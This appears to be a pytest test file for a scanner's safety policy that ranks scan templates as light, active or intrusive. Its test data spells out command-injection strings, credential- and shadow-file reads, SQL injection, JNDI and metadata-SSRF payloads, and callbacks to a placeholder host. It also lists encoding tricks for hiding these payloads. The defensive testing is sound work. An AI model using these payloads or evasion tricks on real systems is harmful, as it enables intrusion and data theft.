"""The policy: what is sent decides the level, whatever it is wrapped in, and more text never lowers it. All templates are
our own; none is ever sent."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from urllib.parse import quote

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from secrecon.model.scan import Touch
from secrecon.templates import signs
from secrecon.templates.parse import parse_template
from secrecon.templates.policy import Safety, classify, decide
from secrecon.templates.template import Template

LIGHT, ACTIVE, INTRUSIVE = Touch.LIGHT, Touch.ACTIVE, Touch.INTRUSIVE


def made(blocks: dict[str, object], *, tags: str = "", name: str = "Made up") -> Template:
    whole = {"id": "made-up", "info": {"name": name, "author": "us", "tags": tags}, **blocks}

    def no_file(path: str) -> bytes:
        raise FileNotFoundError(path)

    return parse_template(yaml.safe_dump(whole).encode(), no_file, random.Random(1))


def http(*blocks: dict[str, object], **more: object) -> Safety:
    return classify(made({**more, "http": list(blocks)}))


def get(path: str) -> dict[str, object]:
    return {"path": ["{{BaseURL}}" + path]}


def post(body: str, path: str = "/form") -> dict[str, object]:
    return {"method": "POST", "path": ["{{BaseURL}}" + path], "body": body}


def raw(text: str) -> dict[str, object]:
    return {"raw": [text]}


@pytest.mark.parametrize(
    "path",
    [
        "",
        "/",
        "/robots.txt",
        "/.git/config",
        "/wp-content/plugins/import-tool/readme.txt",
        "/api/v1/version?verbose=true",
        "/index.php?page=system&type=id&sort=name",
        "/users/list?id=1&type=all&set=2",
        "/static/app.7f3a9c1d2b4e5f60718293a4b5c6d7e8.js",
        "/docs/en/cmd/ping.html",
    ],
)
def test_what_a_visitor_could_ask_is_light(path: str) -> None:
    assert http(get(path)) == Safety(LIGHT)


@pytest.mark.parametrize(
    "path",
    [
        "/../../etc/passwd",
        "/%2e%2e%2f%2e%2e%2fetc/passwd",
        "/a..%252f..%252fb",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=1'%20or%20'1'='1",
        "/?q=1%20union%20select%201,2,md5(7)",
        "/?x=%24%7B41*43%7D",
        "/?x=${jndi:ldap://{{interactsh-url}}/a}",
        "/?u=http://{{interactsh-url}}/",
        "/console/..;/admin",
        "/?next=https://evil.com",
        "/?data=eyJhIjogIjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4ifQ==",
    ],
)
def test_what_only_a_test_sends_is_active(path: str) -> None:
    assert http(get(path)).level is ACTIVE


def test_a_post_a_socket_and_a_program_are_active() -> None:
    assert http(post("q=word")).level is ACTIVE
    assert classify(made({"tcp": [{"host": ["{{Hostname}}"], "inputs": [{"data": "HELP\r\n"}]}]})).level is ACTIVE
    script = "for (let x of [1]) { http(1); }"
    assert classify(made({"flow": script, "http": [get("/a")]})).level is ACTIVE


COMMANDS = [
    "a=1;id;",
    "a=1|whoami",
    "a=`cat /etc/passwd`",
    "a=$(nslookup {{interactsh-url}})",
    "a=1&&uname -a",
    "a=1 || ping -c 3 {{interactsh-url}}",
    "host=127.0.0.1 & ipconfig /all",
    "cmd=id",
    '{"command": "whoami"}',
    "x=wget http://{{interactsh-url}}/a",
    "a={curl,http://{{interactsh-url}}}",
    "a=cat${IFS}/etc/passwd",
    "<?php system('id'); ?>",
    "filter[]=system&get[]=id",
    "x=Runtime.getRuntime().exec('id')",
    "x=new java.lang.ProcessBuilder('id').start()",
    "x=__import__('os').popen('id').read()",
    "x=require('child_process').execSync('id')",
    "x='id'.execute().text",
    "x=;/usr/bin/id;",
    "x=cmd.exe /c dir",
    "x=powershell -enc AAAA",
    "x=expr 13 + 29",
    "'; exec xp_cmdshell 'whoami'--",
    "'; copy (select '') to program 'id'--",
    "() { :; }; echo; /bin/sh -c id",
    "x=--pager=cat /etc/hosts",
    "x=;/???/c?t /???/p??s??",
    "x=;$0<<<whoami",
    "{{x('id',shell=True)}}",
]


@pytest.mark.parametrize("text", COMMANDS)
def test_commands_are_intrusive_without_any_tag(text: str) -> None:
    safety = http(post(text))
    assert safety.level is INTRUSIVE
    assert signs.COMMAND in safety.words


OTHERS = {
    signs.WRITE: ["<?php file_put_contents('a','b');",
                 "1 into outfile '/var/www/a'", "x=a;echo b > /tmp/c", "config set dir /tmp"],
    signs.UPLOAD: ['Content-Disposition: form-data; name="f"; filename="a.txt"', "{{zip('a.txt','b')}}"],
    signs.DELETE: ["drop table users", "'; delete from users", "<?php unlink('a');", "action=deleteUser", "x=rm -rf /tmp/a",
                  '{"action": "reboot"}', '{"method":"user.delete","params":[1]}', "action=del_item&id=1",
                  "<methodCall><methodName>supervisor.shutdown</methodName></methodCall>"],
    signs.CHANGE: ["insert into users values (1)", "update users set a=1", "mutation { a }", "create user a",
                  '{"method": "host.create"}', '{"admin":true}', "a\nDELETE /api/users/1 HTTP/1.1"],
    signs.WAIT: ["1' and sleep(5)--", "1; waitfor delay '0:0:5'", "pg_sleep(5)", "benchmark(9000000,md5(1))",
                "1 and (select count(*) from information_schema.columns a,information_schema.columns b)"],
    signs.WORK: ["A" * 9_000, "&a;&a;&a;&a;&a;&a;&a;&a;&a;", "{{repeat('A', 9000)}}"],
    signs.ACCOUNT: ["new_password=a&confirm_password=a", "action=register&user=a"],
    signs.PRIVATE: ["f=/etc/shadow", "f=/root/.ssh/id_rsa", "u=http://169.254.169.254/latest",
                   "u=http://2852039166/latest", "u=http://0xa9fea9fe/", "u=http://[::ffff:a9fe:a9fe]/"],
    signs.LOGIN: ["user=admin&password=admin", '{"user": "a", "pass": "b"}', "j_password=x", "benutzer=a&kennwort=b"],
    signs.OBJECT: ["rO0ABXNyAC5vcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuQQ==", "x=System.Windows.Data.ObjectDataProvider"],
}  # fmt: skip


@pytest.mark.parametrize(("why", "text"), [(why, text) for why, texts in OTHERS.items() for text in texts])
def test_the_other_classes_are_intrusive(why: str, text: str) -> None:
    safety = http(post(text))
    assert safety.level is INTRUSIVE
    assert why in safety.words


@pytest.mark.parametrize(
    "block",
    [
        {"method": "PUT", "path": ["{{BaseURL}}/a"]},
        {"method": "DELETE", "path": ["{{BaseURL}}/a"]},
        raw("PATCH /a HTTP/1.1\nHost: {{Hostname}}\n\n{}"),
        raw("POST /a HTTP/1.1\nHost: {{Hostname}}\nX-HTTP-Method-Override: PUT\n\na"),
        {"path": ["{{BaseURL}}/"], "headers": {"Authorization": "Basic YWRtaW46YWRtaW4="}},
        raw("PURGE /a HTTP/1.1\nHost: {{Hostname}}\n\n"),
        raw("{{verb}} /a HTTP/1.1\nHost: {{Hostname}}\n\n"),
        raw('POST /soap HTTP/1.1\nHost: {{Hostname}}\nSOAPAction: "urn:device#SetName"\n\n<a/>'),
        raw("POST /up?file=shell.php HTTP/1.1\nHost: {{Hostname}}\n\nhello"),
        get("/login?u=admin&p=admin123"),
        get("/?username=admin&password=admin"),
        get("/index.php?action=delete&id=1"),
        get("/admin/reboot"),
        post("a=1", "/api/user/create"),
        post("email=a@b.test&x=1", "/user/register"),
        post("a=1", "/settings/updateProfile"),
        {"path": ["{{BaseURL}}/"], "digest-username": "admin", "digest-password": "admin"},
        {
            "path": ["{{BaseURL}}/?q={{username}}"],
            "attack": "pitchfork",
            "payloads": {"username": ["a"], "password": ["b"]},
            "headers": {"X-Pass": "{{password}}"},
        },
        {
            "path": ["{{BaseURL}}/"],
            "matchers": [{"type": "dsl", "dsl": ["duration>=5"]}],
        },
    ],
)
def test_methods_logins_changes_and_clocks_are_intrusive(block: dict[str, object]) -> None:
    assert http(block).level is INTRUSIVE


@pytest.mark.parametrize("said", ["SET a b", "DEL a", "delete key", 'EVAL "return 1" 0', "a\r\nHSET a b c"])
def test_a_store_that_is_told_to_change_something_is_intrusive(said: str) -> None:
    talk = {"host": ["{{Hostname}}"], "inputs": [{"data": said + "\r\n"}]}
    assert classify(made({"tcp": [talk]})).level is INTRUSIVE
    assert classify(made({"tcp": [{**talk, "inputs": [{"data": "GET a\r\nINFO\r\n"}]}]})).level is ACTIVE


@pytest.mark.parametrize(
    "expression",
    [
        "contains(BaseURL, 'example') ? 'x' : concat(';who', 'ami')",
        "contains(BaseURL, 'example') ? 'x' : ';who' + 'ami'",
        "unix_time() > 2000000000 ? reverse('imaohw;') : 'x'",
        "repeat(reverse('imaohw;'), len(Hostname) - 14)",
        "contains(BaseURL, 'example') ? 'x' : base64_decode('O3dob2FtaQ==')",
    ],
)
def test_what_a_choice_would_send_elsewhere_is_read_too(expression: str) -> None:
    assert http(get("/?q={{" + expression + "}}")).level is INTRUSIVE


def test_a_program_that_puts_texts_together_cannot_be_read() -> None:
    for line in ("set('p', ';imaohw'.split('').reverse().join(''))", "set('p', ';who' + a)", "set('p', atob(b))"):
        safety = http(get("/?q={{p}}"), flow=f"{line};\nhttp(1);")
        assert safety.level is INTRUSIVE
        assert "makes up what it sends" in safety.words
    plain = http(get("/?q={{p}}"), flow="for (let p of iterate(template.ps)) { set('p', p); http(1); }")
    assert plain.level is ACTIVE


def test_tags_count_but_are_not_needed() -> None:
    for tag in ("intrusive", "dos", "fuzz", "brute-force", "default-login", "fileupload", "time-based-sqli"):
        assert classify(made({"http": [get("/")]}, tags=f"cve,{tag}")).level is INTRUSIVE


WRAPS: dict[str, Callable[[str], str]] = {
    "percent": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "percent five times": lambda text: _times(5, text, lambda t: quote(t, safe="")),
    "unicode escapes": lambda text: "".join(f"\\u{ord(char):04x}" for char in text),
    "hex escapes": lambda text: "".join(f"\\x{ord(char):02x}" for char in text),
    "octal escapes": lambda text: "".join(f"\\{ord(char):03o}" for char in text),
    "entities": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "hex entities": lambda text: "".join(f"&#x{ord(char):x};" for char in text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 behind a word": lambda text: "data:" + base64.b64encode(text.encode()).decode(),
    "base64url": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 twice": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "wide base64": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    "hexadecimal": lambda text: text.encode().hex(),
    "character codes": lambda text: ",".join(str(ord(char)) for char in text),
    "chr calls": lambda text: ".".join(f"chr({ord(char)})" for char in text),
    "joined literals": lambda text: "'" + "'.'".join(text.replace("'", "")) + "'",
    "base64 in percent": lambda text: quote(base64.b64encode(text.encode()).decode(), safe=""),
    "expression": lambda text: "{{base64('" + text.replace("'", '"') + "')}}",
    "expression of parts": lambda text: "{{concat('" + "', '".join(text.replace("'", '"')) + "')}}",
    "decoding expression": lambda text: "{{hex_decode('" + text.encode().hex() + "')}}",
    "reversing expression": lambda text: "{{reverse('" + text[::-1].replace("'", '"') + "')}}",
    "nested expressions": lambda text: "{{url_encode(base64(reverse('" + text[::-1] + "')))}}",
}


def _times(count: int, text: str, wrap: Callable[[str], str]) -> str:
    for _ in range(count):
        text = wrap(text)
    return text


@pytest.mark.parametrize("wrap", WRAPS.values(), ids=WRAPS)
@pytest.mark.parametrize("text", ["a;cat /etc/passwd;", "x=`nslookup a.test`", "1 and sleep(9)"])
def test_wrapping_hides_nothing(wrap: Callable[[str], str], text: str) -> None:
    hidden = wrap(text)
    assert http(get("/?q=" + hidden)).level is INTRUSIVE
    assert http(post("<a>" + hidden + "</a>")).level is INTRUSIVE
    assert http(raw(f"GET / HTTP/1.1\nHost: {{{{Hostname}}}}\nX-A: {hidden}\n\n")).level is INTRUSIVE


@pytest.mark.parametrize(
    "text", ['a;c""at /etc/passwd', "a;w'h'oami;", "a;c\\at /etc/hosts", "a;/b${x}in/cat$IFS/etc/passwd", "a;i$@d;"]
)
def test_quotes_inside_words_hide_nothing(text: str) -> None:
    assert http(post(text)).level is INTRUSIVE


def test_wrapped_too_often_is_intrusive() -> None:
    text = _times(20, "harmless words", lambda t: base64.b64encode(t.encode()).decode()[:90_000])
    safety = http(post(text[:60_000]))
    assert safety.level is INTRUSIVE


@pytest.mark.parametrize(
    "parts",
    [
        {"variables": {"c": "who", "d": "ami"}, "http": [post("x=;{{c}}{{d}};")]},
        {"variables": {"c": "{{concat('ws', 'leep(5')}}", "d": "{{trim_prefix(c, 'w')}}"}, "http": [post("1 and {{d}})")]},
        {"constants": {"c": "whoami"}, "http": [post("x=;{{c}};")]},
        {"http": [{**post("x=;{{c}};"), "payloads": {"c": ["hello", "id"]}}]},
        {"http": [{**get("/?x={{c}}"), "payloads": {"c": ["a", "{{base64_decode('O3dob2FtaTs=')}}"]}}]},
        {"http": [get("/"), get("/a"), post("x=;id;")], "flow": "http(1) && http(2) && http(3)"},
        {"flow": "set('c', ';who' + 'ami;'); http(1)", "http": [get("/?x={{c}}")]},
        {"tcp": [{"host": ["{{Hostname}}"], "inputs": [{"data": "3b77686f616d693b0a", "type": "hex"}]}]},
        {"tcp": [{"host": ["{{Hostname}}"], "inputs": [{"data": "{{hex_decode('3b77686f616d693b0a')}}"}]}]},
        {"dns": [{"name": "$(whoami).{{FQDN}}"}]},
        {"http": [{**get("/"), "headers": {"X-Cmd": "id"}}]},
        {"http": [{**get("/"), "headers": {"Cookie": "a=;id;"}}]},
        {"http": [raw("@Host: ;whoami;\nGET / HTTP/1.1\nHost: {{Hostname}}\n\n")]},
    ],
    ids=lambda parts: "+".join(parts),
)  # fmt: skip
def test_parts_that_are_put_together_are_read_together(parts: dict[str, object]) -> None:
    assert classify(made(parts)).level is INTRUSIVE


def test_what_cannot_be_read_counts_as_what_the_template_speaks_of() -> None:
    blob = base64.b64encode(random.Random(3).randbytes(400)).decode()
    assert classify(made({"http": [post("a=" + blob)]}, name="A page")).level is ACTIVE
    assert classify(made({"http": [post("a=" + blob)]}, name="Remote Code Execution")).level is INTRUSIVE
    assert classify(made({"http": [get("/?a=id")]}, name="Command Injection")).level is INTRUSIVE
    assert classify(made({"http": [get("/?a=1")]}, name="Authentication Bypass")).level is ACTIVE
    assert classify(made({"http": [post("A" * 500)]}, name="A page")).level is ACTIVE
    assert classify(made({"http": [post("A" * 500)]}, name="Buffer overflow")).level is INTRUSIVE


def test_an_empty_password_is_a_question_not_a_login() -> None:
    for pair, level in ((b"admin:", LIGHT), (b"admin:a", INTRUSIVE)):
        header = {"Authorization": "Basic " + base64.b64encode(pair).decode()}
        assert http({**get("/"), "headers": header}).level is level
    assert http(post("user=admin&password=")).level is ACTIVE
    assert http(post("form=1", "/user/register?step=a")).level is ACTIVE


def test_an_object_that_only_looks_a_name_up_is_active() -> None:
    harmless = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07xr\x00\x0cjava.net.URL\x96\x25p"
    other = harmless + b"sr\x00\x3aorg.example.chains.Runner\x01\x02"
    for data, level in ((harmless, ACTIVE), (other, INTRUSIVE)):
        assert http(post("{{base64_decode('" + base64.b64encode(data).decode() + "')}}")).level is level
        assert http(post("{{hex_decode('" + data.hex() + "')}}")).level is level


def test_more_than_is_read_is_intrusive() -> None:
    many = {"payloads": {"c": [f"v{at}" for at in range(20_001)]}, **get("/?a={{c}}")}
    assert "more in it than is read" in http(many).words
    long = {"payloads": {"c": [f"v{at}" for at in range(101)]}, **get("/?a={{c}}")}
    assert "it tries a list of values" in http(long).words


def test_decisions_say_why() -> None:
    light, active, intrusive = http(get("/")), http(get("/../a")), http(post("x=;id;"))
    assert decide(light, LIGHT).allowed
    assert decide(active, ACTIVE).allowed
    assert decide(active, LIGHT).why.startswith("the target is not authorized for active checks")
    refused = decide(intrusive, ACTIVE)
    assert not refused.allowed
    assert "it runs a command" in refused.why
    assert not decide(intrusive, LIGHT).allowed
    assert decide(intrusive, INTRUSIVE).allowed


BASES: tuple[dict[str, object], ...] = (
    {"http": [get("/a")]},
    {"http": [get("/?q=<script>")]},
    {"http": [post("q=1")]},
    {"http": [post("x=;id;")]},
    {"http": [{"method": "PUT", "path": ["{{BaseURL}}/a"]}]},
    {"http": [{**get("/{{c}}"), "payloads": {"c": ["a", "b"]}}]},
)
words = st.one_of(
    st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=30),
    st.sampled_from(["{{c}}", "{{randstr}}", ";id;", "../", "{{base64('a')}}", "${jndi:", "%3c", "user=${", "rO0AB",
                     "java.net.URL"]),
)  # fmt: skip


@st.composite
def additions(draw: st.DrawFn) -> tuple[dict[str, object], dict[str, object]]:
    """A template, and the same with something added somewhere."""
    base = draw(st.sampled_from(BASES))
    blocks = [dict(block) for block in base["http"]]  # type: ignore[attr-defined]
    more: dict[str, object] = {**base, "http": blocks}
    first, text = blocks[0], draw(words)
    where = draw(st.sampled_from(["path", "header", "body", "block", "variable", "constant", "raw"]))
    if where == "path":
        first["path"] = [*first["path"], "{{BaseURL}}/" + text]
    elif where == "header":
        first["headers"] = {"X-More": text}
    elif where == "body":
        first["body"] = f"{first.get('body', '')}\n{text}"
    elif where == "block":
        blocks.append(get("/" + text))
    elif where == "raw":
        blocks.append(raw(f"POST / HTTP/1.1\nHost: {{{{Hostname}}}}\n\n{text}"))
    else:
        more[f"{where}s"] = {draw(st.sampled_from(["c", "d"])): text}
    return base, more


@settings(max_examples=150, deadline=None)
@given(additions())
def test_more_text_never_lowers_a_level(pair: tuple[dict[str, object], dict[str, object]]) -> None:
    base, more = pair
    assert classify(made(more)).level.rank >= classify(made(base)).level.rank


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_judged_the_same_each_time(text: str) -> None:
    block = post("x=" + "".join(char for char in text if char.isprintable()))
    assert http(block) == http(block)


@pytest.mark.parametrize("path", ["/a%00.jsp", "/a%2500.jsp", "/x?file=/etc/hosts%00.png"])
def test_a_nul_byte_in_a_web_request_is_intrusive(path: str) -> None:
    assert http(get(path)).level is INTRUSIVE
    assert http(get(path.replace("%", "-"))).level is not INTRUSIVE
